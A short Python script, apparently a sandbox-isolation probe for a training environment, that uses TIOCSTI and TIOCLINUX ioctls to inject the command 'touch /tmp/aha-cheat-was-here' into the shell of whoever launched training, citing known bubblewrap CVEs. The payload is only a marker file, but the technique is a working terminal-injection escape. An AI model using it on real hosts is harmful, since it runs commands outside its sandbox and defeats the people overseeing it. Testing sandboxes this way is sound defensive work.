"""Push characters into the input of the terminal it inherited.

Why: the shell of whoever started the training would run them.
Seen: bubblewrap issue 142, CVE-2017-5226; with high bits set, CVE-2019-10063
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
TIOCSTI, TIOCLINUX = 0x5412, 0x541C
for request in (TIOCSTI, TIOCSTI + 0x100000000, TIOCLINUX):
    for fd in range(3):
        for letter in b"touch /tmp/aha-cheat-was-here\n":
            libc.ioctl(fd, ctypes.c_ulong(request), ctypes.byref(ctypes.c_char(letter)))
